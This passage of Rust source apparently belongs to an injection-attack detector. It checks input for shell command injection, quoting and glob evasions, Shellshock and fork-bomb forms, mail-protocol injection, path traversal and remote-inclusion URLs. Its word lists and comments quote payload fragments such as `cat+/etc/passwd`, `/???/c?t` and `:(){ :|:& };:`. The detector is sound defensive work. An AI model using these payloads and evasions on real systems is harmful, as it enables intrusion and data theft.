        "stat", "tee", "uniq", "locate", "whereis", "pwd", "ll", "rc", "pip", "npm", "gem",
        "apt", "yum", "dnf", "rpm", "docker", "mysql", "psql", "mongo", "ssh", "scp", "sftp",
        "rsync", "service", "halt", "reg", "finger", "whois", "make", "timeout", "chef", "gzip",
        "xz", "reboot", "shutdown", "printf", "test", "busybox",
    ];
    /// Words that run the next word as a command (`time whoami`, `nohup sh`, `sudo id`).
    #[rustfmt::skip]
    const PREFIX_CMDS: &[&str] = &[
        "time", "nohup", "strace", "ltrace", "sudo", "env", "timeout", "nice", "xargs", "exec",
        "busybox", "command", "builtin", "watch", "then", "do",
    ];
    /// Reconnaissance commands sent bare after a separator (`;id`, `|ps`, `&&env`).
    #[rustfmt::skip]
    const PROBE_CMDS: &[&str] = &[
        "id", "ps", "env", "set", "ls", "pwd", "who", "w", "top", "sh", "bash", "ksh", "zsh",
        "dir", "ver", "hostname", "whoami", "uname", "ifconfig", "ipconfig", "netstat", "htop",
        "lastlog", "aptitude", "visudo", "cscli", "shutdown", "reboot", "ll", "cmd",
    ];

    static COMMANDS: LazyLock<WordMap> = LazyLock::new(|| {
        WordMap::new(&[
            (STRONG_CMDS, STRONG),
            (WEAK_CMDS, WEAK),
            (PREFIX_CMDS, PREFIX),
            (PROBE_CMDS, PROBE),
        ])
    });

    /// Words after a command that make it prose ("Wget is…", "openssl ships…").
    const PROSE_NEXT: &[&str] = &[
        "is", "was", "are", "were", "be", "can", "could", "may", "might", "must", "will", "would",
        "should", "does", "did", "has", "had", "have", "and", "or", "the", "a", "an", "to", "for",
        "of", "in", "on", "with", "it", "i", "you", "we", "my", "not", "also", "that", "which",
        "vs", "version", "itself", "package", "command", "program", "tool", "as", "if", "when",
        "but", "so", "than", "then", "by", "at", "from", "into", "only",
    ];

    /// A command word at a command position — value start, after `;` `|` `||` `&` `&&` a
    /// backtick `$(` or a newline, or after a prefix such as `time`/`nohup` — after undoing
    /// the shell's quoting evasions (`c'a't`, `c\at`, `$@`, `${IFS}`, `cat$u`).
    fn command_positions(s: &Scan) -> bool {
        let t = s.t;
        let mut buf: Option<Norm> = None;
        let mut start = 0;
        let mut opener = 0u8;
        // Which of the per-segment work can happen at all, from the bytes present.
        // The bytes a separator can start with that occur (`{`/`(` only separate after one of
        // `$<>`;&|`, so without those they need no look).
        let openers = s.k.bytes.has_any(b"$<>`;&|");
        let starts = Needles::of(
            &s.k.bytes,
            if openers {
                b";\n\r`|&$<{("
            } else {
                b";\n\r`|&$<"
            },
        );
        let separators = !starts.is_empty();
        let may_evade = s.k.bytes.has_any(EVASIVE_BYTES);
        let may_plus = s.has(b'+');
        loop {
            let (end, sep_len) = if separators {
                next_separator(t, start, &starts)
            } else {
                (t.len(), 0)
            };
            // A command, its prefix words and first argument fit in this many bytes.
            let seg = t.slice(start, end.min(start + 96));
            let evasive = may_evade && seg.iter().any(|&c| EVASIVE.has(c));
            // `cat+/etc/passwd`: a `+` left over from form encoding separates words.
            let plus_spaces = may_plus && seg.contains(&b'+') && !seg.contains(&b' ');
            let seg = if evasive || plus_spaces {
                let buf = buf.get_or_insert_with(Norm::new);
                normalize_into(seg, buf);
                if plus_spaces {
                    buf.as_mut_slice()
                        .iter_mut()
                        .filter(|c| **c == b'+')
                        .for_each(|c| *c = b' ');
                }
                buf.as_slice()
            } else {
                seg
            };
            let ctx = Seg {
                opener,
                closer: t.at(end),
            };
            let pos = if opener == 0 {
                Pos::Start
            } else {
                Pos::Separator
            };
            if command_at(Text(seg), 0, pos, ctx, 0) {
                return true;
            }
            if end >= t.len() {
                return false;
            }
            opener = t.at(end);
            start = end + sep_len;
        }
    }

    /// Where the segment starting at `from` ends: the next command separator (`;` `|` `||`
    /// `&` `&&` backtick `$(` newline `<<<`) and its length, or the end of the value.
    /// `starts`: the bytes a separator can start with that occur in the value.
    fn next_separator(t: Text, from: usize, starts: &Needles) -> (usize, usize) {
        let mut i = from;
        while let Some(p) = starts.find(t.0, i) {
            let len = separator_len(t, p);
            if len > 0 {
                return (p, len);
            }
            i = p + 1;
        }
        (t.len(), 0)
    }

    fn separator_len(t: Text, i: usize) -> usize {
        match t.at(i) {
            // Empty `` ``, `$()`, `<()` are quoting evasions inside a word (`pi``ng`).
            b'`' if t.at(i + 1) == b'`' || t.before(i) == b'`' => 0,
            b'$' | b'<' | b'>' if t.at(i + 1) == b'(' && t.at(i + 2) == b')' => 0,
            b';' | b'\n' | b'\r' | b'`' => 1,
            b'|' => 1 + usize::from(t.at(i + 1) == b'|'),
            b'&' if t.at(i + 1) == b'&' => 2,
            b'&' if !is_html_entity(t, i) => 1,
            b'$' if t.at(i + 1) == b'(' => 2,
            b'<' if t.starts_ci(i, b"<<<") => 3,
            b'{' | b'('
                if t.at(i + 1) != b')'
                    && matches!(t.before(i), b'$' | b'<' | b'>' | b'`' | b';' | b'&' | b'|') =>
            {
                1
            }
            _ => 0,
        }
    }

    /// `&amp;`, `&#59;` are markup, not command separators.
    fn is_html_entity(t: Text, i: usize) -> bool {
        let start = i + 1 + usize::from(t.at(i + 1) == b'#');
        let mut j = start;
        while t.at(j).is_ascii_alphanumeric() && j < start + 10 {
            j += 1;
        }
        j > start && t.at(j) == b';'
    }

    /// Undoes quoting that the shell removes before running a word: quotes, backslashes,
    /// `^` (cmd.exe), special parameters (`$@`, `$*`, `$1`), `${IFS}`, empty `$()`/backticks,
    /// and unset variables glued inside a word (`c$u\at`).
    /// A stack buffer for normalized words: [`normalize_into`] never lengthens its input, and
    /// its callers pass at most [`Norm::CAP`] bytes.
    pub(super) struct Norm {
        bytes: [u8; Norm::CAP],
        len: usize,
    }

    impl Norm {
        const CAP: usize = 256;
        pub(super) fn new() -> Self {
            Norm {
                bytes: [0; Norm::CAP],
                len: 0,
            }
        }
        fn clear(&mut self) {
            self.len = 0;
        }
        fn push(&mut self, c: u8) {
            if let Some(slot) = self.bytes.get_mut(self.len) {
                *slot = c;
                self.len += 1;
            }
        }
        pub(super) fn as_slice(&self) -> &[u8] {
            self.bytes.get(..self.len).unwrap_or_default()
        }
        fn as_mut_slice(&mut self) -> &mut [u8] {
            self.bytes.get_mut(..self.len).unwrap_or_default()
        }
    }

    fn normalize_into(b: &[u8], out: &mut Norm) {
        out.clear();
        let t = Text(b);
        let mut i = 0;
        while i < b.len() {
            let c = t.at(i);
            let n = t.at(i + 1);
            let skip = match c {
                b'\'' | b'"' | b'^' => 1,
                b'\\' if n == b'\n' => 2,
                b'\\' => 1,
                b'$' if t.starts_ci(i + 1, b"{ifs}") => {
                    out.push(b' ');
                    6
                }
                b'$' if t.starts_ci(i + 1, b"ifs") && !t.is_word(i + 4) => {
                    out.push(b' ');
                    4
                }
                b'$' if matches!(n, b'@' | b'*' | b'!' | b'?' | b'-' | b'_' | b'$' | b'#')
                    || n.is_ascii_digit() =>
                {
                    2
                }
                b'$' if n == b'(' && t.at(i + 2) == b')' => 3,
                b'$' if (n == b'{' || n.is_ascii_alphabetic()) && is_word(t.before(i)) => {
                    glued_variable_len(t, i)
                }
                b'`' if n == b'`' => 2,
                b'<' | b'>' if n == b'(' && t.at(i + 2) == b')' => 3,
                _ => {
                    out.push(c);
                    1
                }
            };
            i += skip;
        }
    }

    fn glued_variable_len(t: Text, i: usize) -> usize {
        if t.at(i + 1) == b'{' {
            mchr(b'}', t.slice(i, i + 32)).map_or(1, |e| e + 1)
        } else {
            t.word_end(i + 1) - i
        }
    }

    /// The separators around a command segment (0 = start/end of the value).
    #[derive(Clone, Copy)]
    struct Seg {
        opener: u8,
        closer: u8,
    }

    #[derive(Clone, Copy, PartialEq)]
    enum Pos {
        Start,
        Separator,
        Prefixed,
    }

    /// Is there a command word at `i` (after optional whitespace, `(`, `{`, `@`, a path)?
    fn command_at(t: Text, i: usize, pos: Pos, seg: Seg, depth: u8) -> bool {
        let mut i = t.skip_ws(i);
        while pos != Pos::Start && matches!(t.at(i), b'(' | b'{' | b'@' | b'!') {
            i = t.skip_ws(i + 1);
        }
        let start = i;
        // Every command name, glob, variable and absolute path starts with one of these.
        if !(t.at(start).is_ascii_alphabetic()
            || matches!(t.at(start), b'$' | b'/' | b'?' | b'*' | b'['))
        {
            return false;
        }
        // The token, and whether it holds a path separator or a glob character.
        let (mut e, mut path, mut globby) = (start, false, false);
        for &c in t.slice(start, t.len()) {
            if TOKEN_END.has(c) {
                break;
            }
            path |= matches!(c, b'/' | b'\\');
            globby |= matches!(c, b'?' | b'*' | b'[');
            e += 1;
        }
        let mut token = t.slice(start, e);
        if token.is_empty() {
            return false;
        }
        if variable_command(t, token, e, pos) {
            return true;
        }
        // Without a path separator the token is the command name: most words end here.
        if !path && !globby && command_class(strip_exe(token)) == 0 {
            return false;
        }
        // Windows switches glued to the command: `bcdboot/r`, `cmd/c`.
        if let Some(slash) = token.iter().position(|c| *c == b'/').filter(|&p| p > 0) {
            let head = token.get(..slash).unwrap_or_default();
            let switch = token.get(slash + 1..).unwrap_or_default();
            if command_class(head) & STRONG != 0
                && (1..=2).contains(&switch.len())
                && switch.iter().all(u8::is_ascii_alphabetic)
            {
                return true;
            }
            if token.first() != Some(&b'/') && !token.starts_with(b"bin/") {
                token = head;
            }
        }
        let has_path = token.contains(&b'/') || token.contains(&b'\\');
        if has_path && token.first() != Some(&b'/') && !token.starts_with(b"bin/") {
            return false;
        }
        let e = start + token.len();
        let name = token
            .rsplit(|c| *c == b'/' || *c == b'\\')
            .next()
            .unwrap_or(token);
        let name = strip_exe(name);
        let class = command_class(name);
        let glob = name.iter().any(|c| matches!(c, b'?' | b'*' | b'['))
            && glob_matches(name, GLOB_COMMANDS);
        if class == 0 && !glob {
            return false;
        }
        let next = t.skip_ws(e);
        let at_end = matches!(t.at(next), 0 | b')' | b'}' | b'#');
        let value_end = t.at(next) == 0 && seg.closer == 0;
        let arg = shell_argument(t, e, next);
        let prose = !at_end && !arg && prose_continuation(t, next);
        if class & PREFIX != 0
            && depth < 3
            && !at_end
            && command_at(t, next, Pos::Prefixed, seg, depth + 1)
        {
            return true;
        }
        let strong = class & STRONG != 0;
        let weak = class & WEAK != 0;
        let probe = class & PROBE != 0;
        // `` `word` `` is also markdown code: a bare command in backticks must be a probe;
        // a bare Title-case word ("… | Sh") is prose.
        let bare = at_end && t.at(next) == 0;
        if bare && ((seg.opener == b'`' && seg.closer == b'`' && !probe) || is_title_case(name)) {
            return false;
        }
        if glob || (has_path && (arg || at_end)) {
            return true;
        }
        match pos {
            Pos::Start => {
                (strong && name.len() > 3 && (value_end || !prose)) || ((strong || weak) && arg)
            }
            Pos::Separator | Pos::Prefixed => {
                (strong && (arg || at_end || (!prose && name.len() > 3)))
                    || (weak && arg)
                    || (probe && at_end)
                    || (pos == Pos::Prefixed && (weak || strong) && value_end)
            }
        }
    }

    /// Quoting and expansion characters the shell removes or rewrites inside a word.
    const EVASIVE_BYTES: &[u8] = b"'\"\\^$`<>";
    static EVASIVE: ByteTable = ByteTable::of(EVASIVE_BYTES);

    /// Bytes that end a command word: whitespace, separators, brackets, quotes.
    static TOKEN_END: ByteTable = ByteTable::of(b" \t\n\x0c\r;|&`<>(){},'\"");

    fn is_title_case(w: &[u8]) -> bool {
        w.len() > 1
            && w.first().is_some_and(u8::is_ascii_uppercase)
            && w.iter().skip(1).all(u8::is_ascii_lowercase)
    }

    fn command_class(name: &[u8]) -> u8 {
        let c = COMMANDS.get(name);
        let versioned = matches!(name.first(), Some(b'p' | b'P' | b'g' | b'G'))
            && ["python3.", "python2.", "gcc", "pip3."].iter().any(|p| {
                starts_with_ci(name, p.as_bytes())
                    && name.len() > p.len()
                    && name
                        .get(p.len()..)
                        .unwrap_or_default()
                        .iter()
                        .all(|c| c.is_ascii_digit() || *c == b'.')
            });
        c | if versioned { STRONG } else { 0 }
    }

    /// `$c $a$b`, `$a -nlvp 555`, `${SHELL} -c …`: a variable expanded as the command, with
    /// arguments (the command was assigned earlier, `c=cat`).
    fn variable_command(t: Text, token: &[u8], e: usize, pos: Pos) -> bool {
        let Some(rest) = token.strip_prefix(b"$") else {
            return false;
        };
        let name = rest
            .strip_prefix(b"{")
            .and_then(|r| r.strip_suffix(b"}"))
            .unwrap_or(rest);
        let is_var = name
            .first()
            .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_')
            && name.iter().all(|c| is_word(*c));
        let next = t.skip_ws(e);
        let followed = next > e && t.at(next) != 0;
        is_var
            && followed
            && (pos != Pos::Start
                || shell_argument(t, e, next)
                || command_class(t.slice(next, t.word_end(next))) != 0)
    }

    fn strip_exe(w: &[u8]) -> &[u8] {
        match w.len().checked_sub(4) {
            Some(n) if w.get(n..).is_some_and(|s| s.eq_ignore_ascii_case(b".exe")) => {
                w.get(..n).unwrap_or(w)
            }
            _ => w,
        }
    }

    /// The argument after a command looks like shell: a flag, a path, a redirection, a
    /// variable, a host/file name, an IP address.
    fn shell_argument(t: Text, cmd_end: usize, i: usize) -> bool {
        let (c, n) = (t.at(i), t.at(i + 1));
        if i == cmd_end && !matches!(c, b'<' | b'>') {
            return false;
        }
        match c {
            b'-' => {
                n.is_ascii_alphabetic()
                    || (n == b'-' && t.at(i + 2).is_ascii_alphabetic())
                    || (n.is_ascii_digit() && t.at(i + 2) == 0)
            }
            b'/' => {
                n.is_ascii_alphanumeric()
                    || matches!(n, b'?' | b'*' | b'[' | b'.' | b'$' | b'~')
                    || (n == 0 && i > cmd_end)
            }
            b'~' | b'$' | b'%' => n != 0 && !n.is_ascii_digit() && !n.is_ascii_whitespace(),
            b'.' => matches!(n, b'/' | b'.' | b'\\'),
            b'<' | b'>' => n != b'=',
            b'+' => n.is_ascii_alphabetic(),
            _ if c.is_ascii_alphanumeric() => {
                let mut e = i;
                while e < t.len()
                    && !t.at(e).is_ascii_whitespace()
                    && !matches!(t.at(e), b';' | b'|' | b'&' | b'`' | b')')
                {
                    e += 1;
                }
                looks_like_host_or_file(t.slice(i, e))
            }
            _ => false,
        }
    }

    /// `evil.php`, `google.com`, `10.0.0.1`, `site.yml`, `c:\x` — not a sentence word.
    fn looks_like_host_or_file(tok: &[u8]) -> bool {
        if tok.eq_ignore_ascii_case(b"localhost") {
            return true;
        }
        if tok.len() > 2 && tok.get(1) == Some(&b':') && matches!(tok.get(2), Some(b'\\' | b'/')) {
            return true;
        }
        let dots = tok.iter().filter(|c| **c == b'.').count();
        if dots == 3 && tok.iter().all(|c| c.is_ascii_digit() || *c == b'.') {
            return true;
        }
        let Some(dot) = tok.iter().rposition(|c| *c == b'.') else {
            return false;
        };
        let ext = tok.get(dot + 1..).unwrap_or_default();
        let stem = tok.get(..dot).unwrap_or_default();
        stem.iter().any(u8::is_ascii_alphabetic)
            && (1..=6).contains(&ext.len())
            && ext.iter().all(u8::is_ascii_alphanumeric)
            && ext.iter().any(u8::is_ascii_alphabetic)
            && tok
                .iter()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-' | b'_' | b'/' | b':'))
    }

    /// The next word reads as English: a function word, a third-person verb ("works"), a
    /// capitalised word, or punctuation such as `:`/`,`.
    fn prose_continuation(t: Text, i: usize) -> bool {
        let e = t.word_end(i);
        let w = t.slice(i, e);
        if w.is_empty() {
            return !matches!(t.at(i), 0 | b'-' | b'/' | b'$' | b'~' | b'.');
        }
        let verb = w.len() > 3 && w.last() == Some(&b's') && w.iter().all(u8::is_ascii_lowercase);
        let more = t.next_word(e).is_some_and(|(a, b)| {
            t.slice(a, b).iter().all(u8::is_ascii_lowercase) && t.at(t.skip_ws(b)) != 0
        });
        in_list(PROSE_NEXT, w)
            || (verb && more)
            || w.first().is_some_and(u8::is_ascii_uppercase)
            || w.iter().all(u8::is_ascii_digit)
    }

    /// Targets a glob pattern (`c?t`, `/???/b??h`, `/et*/`) is matched against.
    const GLOB_COMMANDS: &[&str] = &[
        "cat", "nc", "sh", "bash", "wget", "curl", "python", "perl", "id", "ls", "uname", "whoami",
        "rm", "php", "echo", "tac", "ps", "ifconfig",
    ];
    const GLOB_PATH_WORDS: &[&str] = &[
        "etc", "bin", "usr", "sbin", "dev", "tmp", "var", "proc", "passwd", "shadow", "hosts",
        "group", "issue", "cat", "sh", "bash", "nc", "ls", "id", "uname", "whoami", "wget", "curl",
        "python", "perl", "php", "tac", "ps", "more", "less", "head", "tail", "env",
    ];

    /// Wildcards that resolve to a command or system path segment (`/???/c?t`, `/et*/passwd`,
    /// `/etc/pa[s]swd`, `/bi[n]/bash`); globs in ordinary file names do not count.
    fn glob_path(s: &Scan) -> bool {
        let t = s.t;
        if !s.has(b'/') || !s.has_any(b"?*[") {
            return false;
        }
        let mut buf = Norm::new();
        let mut next_allowed = 0;
        for i in memchr::memchr_iter(b'/', t.0) {
            let token_start = i == 0
                || matches!(
                    t.before(i),
                    b' ' | b'\t'
                        | b';'
                        | b'|'
                        | b'&'
                        | b'='
                        | b'`'
                        | b'('
                        | b'{'
                        | b','
                        | b'+'
                        | b'\''
                        | b'"'
                );
            if i < next_allowed || !token_start {
                continue;
            }
            let mut e = i;
            while e < t.len()
                && e < i + 256
                && !t.at(e).is_ascii_whitespace()
                && !matches!(t.at(e), b';' | b'|' | b'&' | b'`' | b')' | b'}' | b',')
            {
                e += 1;
            }
            next_allowed = e;
            normalize_into(t.slice(i, e), &mut buf);
            let buf = buf.as_slice();
            let globbed_system_segment = buf.split(|c| *c == b'/').any(|seg| {
                seg.iter().any(|c| matches!(c, b'?' | b'*' | b'['))
                    && seg.iter().any(|c| !matches!(c, b'*'))
                    && glob_matches(seg, GLOB_PATH_WORDS)
            });
            if globbed_system_segment && buf.iter().filter(|c| **c == b'/').count() >= 2 {
                return true;
            }
        }
        false
    }

    fn glob_matches(pattern: &[u8], targets: &[&str]) -> bool {
        let pat = collapse_brackets(pattern);
        !pat.iter().all(|c| matches!(c, b'?' | b'*'))
            && targets.iter().any(|c| glob_match(&pat, c.as_bytes()))
    }

    /// Wildcard match (`?`, `*`), ASCII case-insensitive, with one backtrack point.
    fn glob_match(pat: &[u8], s: &[u8]) -> bool {
        let (mut pi, mut si) = (0usize, 0usize);
        let (mut star, mut mark) = (None::<usize>, 0usize);
        while si < s.len() {
            let pc = pat.get(pi).map(u8::to_ascii_lowercase);
            let sc = s.get(si).copied();
            if pc.is_some() && (pc == Some(b'?') || pc == sc) {
                pi += 1;
                si += 1;
            } else if pc == Some(b'*') {
                star = Some(pi);
                mark = si;
                pi += 1;
            } else if let Some(sp) = star {
                pi = sp + 1;
                mark += 1;
                si = mark;
            } else {
                return false;
            }
        }
        while pat.get(pi) == Some(&b'*') {
            pi += 1;
        }
        pi == pat.len()
    }

    /// `[abc]` classes become a single `?`.
    fn collapse_brackets(p: &[u8]) -> Vec<u8> {
        let mut out = Vec::with_capacity(p.len());
        let mut i = 0;
        while let Some(&c) = p.get(i) {
            let close = (c == b'[')
                .then(|| p.get(i..).and_then(|r| r.iter().position(|x| *x == b']')))
                .flatten();
            match close {
                Some(cl) => {
                    out.push(b'?');
                    i += cl + 1;
                }
                None => {
                    out.push(c);
                    i += 1;
                }
            }
        }
        out
    }

    /// `{cat,/etc/passwd}`, `{,ifconfig}`, `{id,}`: bash brace expansion building a command
    /// (a brace inside a path, `/etc/{passwd,group}`, is just a file list).
    fn brace_expansion(s: &Scan) -> bool {
        let t = s.t;
        s.has(b'{')
            && s.has(b',')
            && memchr::memchr_iter(b'{', t.0).any(|p| {
                let window = t.slice(p + 1, p + 129);
                let Some(close) = mchr(b'}', window) else {
                    return false;
                };
                let body = window.get(..close).unwrap_or_default();
                let first = body
                    .split(|c| *c == b',')
                    .find(|x| !x.is_empty())
                    .unwrap_or_default();
                let name = first.rsplit(|c| *c == b'/').next().unwrap_or(first);
                body.contains(&b',')
                    && !body.iter().any(u8::is_ascii_whitespace)
                    && t.before(p) != b'/'
                    && (command_class(name) & (STRONG | WEAK) != 0
                        || (first.first() == Some(&b'/') && glob_matches(name, GLOB_COMMANDS)))
            })
    }

    /// cmd.exe `FOR [/D|/R|/L|/F "opts"] %x IN (…) DO …`.
    fn for_loop(s: &Scan) -> bool {
        let t = s.t;
        s.has(b'%')
            && s.has(b'(')
            && s.word(keywords::FOR)
            && s.each_word("for", |_, e| {
                let window = Text(t.slice(e, e + 200));
                let Some(pct) = mchr(b'%', window.0) else {
                    return false;
                };
                let pre_ok = window.slice(0, pct).iter().all(|c| {
                    c.is_ascii_alphanumeric()
                        || c.is_ascii_whitespace()
                        || matches!(
                            c,
                            b'/' | b'"'
                                | b'='
                                | b'*'
                                | b','
                                | b'-'
                                | b':'
                                | b'\\'
                                | b'.'
                                | b'~'
                                | b'_'
                        )
                });
                let Some(inp) = find_ci(window.0, b" in", pct) else {
                    return false;
                };
                let paren = window.skip_ws(inp + 3);
                pre_ok
                    && inp < pct + 12
                    && window.at(paren) == b'('
                    && find_ci(window.0, b"do", paren)
                        .is_some_and(|d| window.slice(paren, d).contains(&b')'))
            })
    }

    /// cmd.exe `IF [/I] [NOT] EXIST|DEFINED|ERRORLEVEL x cmd`, `IF a==b cmd`, `IF x GEQ y cmd`.
    fn if_statement(s: &Scan) -> bool {
        let t = s.t;
        s.word(keywords::BATCH)
            && s.word(keywords::IF)
            && s.each_word("if", |_, e| {
                let mut i = t.skip_ws(e);
                if t.starts_ci(i, b"/i") {
                    i = t.skip_ws(i + 2);
                }
                let mut w = t.next_word(i);
                if t.word_is(w, &["not"]) {
                    w = w.and_then(|(_, x)| t.next_word(x));
                }
                if t.word_is(w, &["exist", "defined", "errorlevel", "cmdextversion"]) {
                    let after = w.map_or(i, |(_, x)| x);
                    let operand = t.next_word(after);
                    let operand_ok = operand.is_some() && !t.word_is(operand, PROSE_NEXT)
                        || matches!(t.at(t.skip_ws(after)), b'"' | b'%' | b'(' | b'[');
                    return t.at(after).is_ascii_whitespace() && operand_ok;
                }
                batch_comparison(t, i)
            })
    }

    /// `a==b cmd` (no spaces, or quoted/bracketed/`%var%` sides) and `x EQU y cmd` on one line.
    fn batch_comparison(t: Text, i: usize) -> bool {
        let line_end = mchr(b'\n', t.slice(i, i + 160)).map_or((i + 160).min(t.len()), |x| i + x);
        let line = Text(t.slice(i, line_end));
        let batch_side = |c: u8| {
            matches!(
                c,
                b'"' | b'[' | b']' | b'(' | b')' | b'%' | b'{' | b'}' | b'!'
            )
        };
        if let Some(q) = find(line.0, b"==", 0) {
            let tight =
                !line.before(q).is_ascii_whitespace() && !line.at(q + 2).is_ascii_whitespace();
            let marked = batch_side(line.before(line.skip_back_ws(q)))
                || batch_side(line.at(line.skip_ws(q + 2)));
            let lhs = trim_ascii(line.slice(0, q));
            let one_token = !lhs.is_empty()
                && lhs
                    .split(u8::is_ascii_whitespace)
                    .filter(|w| !w.is_empty())
                    .count()
                    <= 2;
            if one_token && (tight || marked) {
                return true;
            }
        }
        ["equ", "neq", "lss", "leq", "gtr", "geq"].iter().any(|op| {
            let mut from = 0;
            while let Some(q) = find_ci(line.0, op.as_bytes(), from) {
                from = q + 3;
                if line.before(q).is_ascii_whitespace()
                    && line.at(q + 3).is_ascii_whitespace()
                    && line.slice(0, q).iter().filter(|c| **c == b' ').count() <= 12
                {
                    return true;
                }
            }
            false
        })
    }

    /// Shellshock `() {` function definitions and fork bombs `:(){ :|:& };:`.
    fn function_definition(s: &Scan) -> bool {
        s.has(b'{') && find_all(s.t.0, b"()").any(|p| s.t.at(s.t.skip_ws(p + 2)) == b'{')
    }

    /// `alias x=cmd`, `alias -p a=b`.
    fn alias_definition(s: &Scan) -> bool {
        let t = s.t;
        s.word(keywords::ALIAS)
            && s.has(b'=')
            && s.each_word("alias", |_, e| {
                let mut i = t.skip_ws(e);
                while matches!(t.at(i), b'-' | b'+') {
                    while i < t.len() && !t.at(i).is_ascii_whitespace() {
                        i += 1;
                    }
                    i = t.skip_ws(i);
                }
                let mut j = i;
                while j < t.len() && !t.at(j).is_ascii_whitespace() && t.at(j) != b'=' {
                    j += 1;
                }
                e < i && j > i && t.at(j) == b'='
            })
    }

    /// `$((…))`, `$[2+2]`: shell arithmetic expansion.
    fn arithmetic_expansion(s: &Scan) -> bool {
        let t = s.t;
        s.has(b'$')
            && (find(t.0, b"$((", 0).is_some()
                || find_all(t.0, b"$[").any(|p| {
                    let body = t.slice(p + 2, p + 34);
                    mchr(b']', body).is_some_and(|c| {
                        body.get(..c).unwrap_or_default().iter().all(|x| {
                            x.is_ascii_digit()
                                || matches!(
                                    x,
                                    b'+' | b'-' | b'*' | b'/' | b' ' | b'$' | b'(' | b')'
                                )
                        })
                    })
                }))
    }

    /// `$(cmd)`, `<(cmd …)`, `>(tee x)`, `${cmd}`: command/process substitution of a command.
    fn substitution(s: &Scan) -> bool {
        let t = s.t;
        s.has_any(b"<>$")
            && s.has_any(b"({")
            && [&b"<("[..], b">(", b"$(", b"${"].iter().any(|open| {
                find_all(t.0, open).any(|p| {
                    let e = t.word_end(p + 2);
                    let close = t.at(t.skip_ws(e));
                    e > p + 2
                        && matches!(close, b')' | b' ' | b'$' | b'}')
                        && command_class(t.slice(p + 2, e)) & (STRONG | WEAK) != 0
                })
            })
    }

    /// SMTP/IMAP/POP3 command injection: a CRLF followed by a protocol verb line.
    fn mail_protocol(s: &Scan) -> bool {
        let t = s.t;
        s.has(b'\r')
            && find_all(t.0, b"\r\n").any(|p| {
                let start = p + 2;
                let end = mchr(b'\n', t.slice(start, t.len())).map_or(t.len(), |e| start + e);
                mail_verb_line(Text(trim_ascii(t.slice(start, end))))
            })
    }

    fn mail_verb_line(l: Text) -> bool {
        let smtp = [
            "mail from:",
            "rcpt to:",
            "ehlo ",
            "helo ",
            "auth ",
            "apop ",
            "vrfy ",
            "expn ",
        ]
        .iter()
        .any(|v| l.starts_ci(0, v.as_bytes()));
        let bare = in_list(&["data", "quit", "rset", "noop"], l.0)
            && l.0.iter().all(u8::is_ascii_uppercase);
        let pop = ["retr ", "top ", "list ", "dele "]
            .iter()
            .any(|v| l.starts_ci(0, v.as_bytes()))
            && l.0
                .iter()
                .skip_while(|c| c.is_ascii_alphabetic())
                .all(|c| c.is_ascii_digit() || *c == b' ');
        let tag_end = l.word_end(0);
        let imap = tag_end > 0
            && l.at(tag_end) == b' '
            && l.slice(0, tag_end).iter().any(u8::is_ascii_digit)
            && l.word_is(
                l.next_word(tag_end),
                &[
                    "login",
                    "select",
                    "examine",
                    "append",
                    "store",
                    "uid",
                    "fetch",
                    "copy",
                    "list",
                    "search",
                    "status",
                    "authenticate",
                    "create",
                    "delete",
                    "rename",
                    "logout",
                    "capability",
                    "quit",
                    "noop",
                ],
            );
        let help =
            l.starts_ci(0, b"help ") && l.0.iter().all(|c| c.is_ascii_alphanumeric() || *c == b' ');
        smtp || bare || pop || imap || help
    }
}

// ---------------------------------------------------------------------------------------------
// Path traversal / local file inclusion
// ---------------------------------------------------------------------------------------------

mod path {
    use super::*;

    pub const RULES: &[Rule] = &[
        ("path-dot-dot", Gate::all(b".").any(b"/\\"), dot_dot),
        ("path-dot-directory", Gate::all(b"/."), dot_directory),
    ];

    /// Directory traversal: `../` or `..\` at a path boundary followed by a path component,
    /// and the triple-dot `.../` that defeats naive filters. (Sensitive targets such as
    /// `/etc/passwd` are literal markers.)
    fn dot_dot(s: &Scan) -> bool {
        let t = s.t;
        s.has(b'.')
            && s.has_any(b"/\\")
            && find_all(t.0, b"..").any(|p| {
                let (after, before) = (t.at(p + 2), t.before(p));
                let boundary = matches!(
                    before,
                    0 | b'/'
                        | b'\\'
                        | b'='
                        | b' '
                        | b'\t'
                        | b'\''
                        | b'"'
                        | b':'
                        | b';'
                        | b'|'
                        | b'('
                        | b'>'
                        | b'<'
                );
                let next = t.at(p + 3);
                let traversal = matches!(after, b'/' | b'\\')
                    && boundary
                    && (p == 0 || (next != 0 && !next.is_ascii_whitespace()));
                let triple = after == b'.'
                    && matches!(t.at(p + 3), b'/' | b'\\')
                    && matches!(before, 0 | b'/' | b'\\' | b'=');
                traversal || triple
            })
    }

    /// A path token naming a hidden dot-directory or dot-file (`/.git/config`, `/.env`,
    /// `/.claude/settings.json`): configuration and secrets, never a page.
    fn dot_directory(s: &Scan) -> bool {
        let t = s.t;
        s.has(b'/')
            && s.has(b'.')
            && find(t.0, b"://", 0).is_none()
            && find_all(t.0, b"/.").any(|p| {
                let token_start = t
                    .slice(0, p)
                    .iter()
                    .rposition(u8::is_ascii_whitespace)
                    .map_or(0, |x| x + 1);
                let name_start = p + 2;
                let mut e = name_start;
                while t.is_word(e) || matches!(t.at(e), b'-' | b'.') {
                    e += 1;
                }
                let name = t.slice(name_start, e);
                t.at(token_start) == b'/'
                    && name.len() >= 2
                    && name.first().is_some_and(|c| is_word(*c))
            })
    }
}

// ---------------------------------------------------------------------------------------------
// Remote file inclusion / SSRF
// ---------------------------------------------------------------------------------------------

mod remote {
    use super::*;

    pub const RULES: &[Rule] = &[
        ("rfi-ip-url", Gate::all(b":/"), ip_url),
        (
            "rfi-trailing-question-mark",
            Gate::all(b"?"),
            trailing_question,
        ),
        ("rfi-data-uri", Gate::words(keywords::DATA), data_uri),
    ];

    /// http(s)/ftp URLs whose host is a literal IP address (v4, v6, or decimal): include and
    /// SSRF payloads point at raw addresses, links in prose name hosts.
    fn ip_url(s: &Scan) -> bool {
        let t = s.t;
        s.has(b':')
            && find_all(t.0, b"://").any(|p| {
                let scheme_start = t
                    .slice(0, p)
                    .iter()
                    .rposition(|c| !c.is_ascii_alphanumeric())
                    .map_or(0, |x| x + 1);
                let mut e = p + 3;
                while e < t.len()
                    && !matches!(
                        t.at(e),
                        b'/' | b'?' | b'#' | b' ' | b'\t' | b'\n' | b'"' | b'\'' | b'<'
                    )
                {
                    e += 1;
                }
                let authority = t.slice(p + 3, e);
                let host = authority.rsplit(|c| *c == b'@').next().unwrap_or(authority);
